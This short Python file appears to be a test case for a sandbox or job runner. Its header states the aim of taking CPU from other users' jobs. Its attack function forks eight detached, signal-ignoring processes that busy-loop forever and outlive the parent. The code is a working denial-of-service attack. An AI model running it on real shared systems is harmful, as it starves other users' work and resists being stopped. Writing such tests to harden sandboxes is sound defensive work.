# what: take the processors from the others' jobs, by processes in sessions of their own that go on when this one has ended
# passes: either

import os
import signal


def attack():
    for number in range(8):
        if os.fork():
            continue
        try:
            os.setsid()
        except OSError:  # the filter forbids it where there are no namespaces
            pass
        for each in set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP}:
            signal.signal(each, signal.SIG_IGN)
        while True:
            pass
    return True
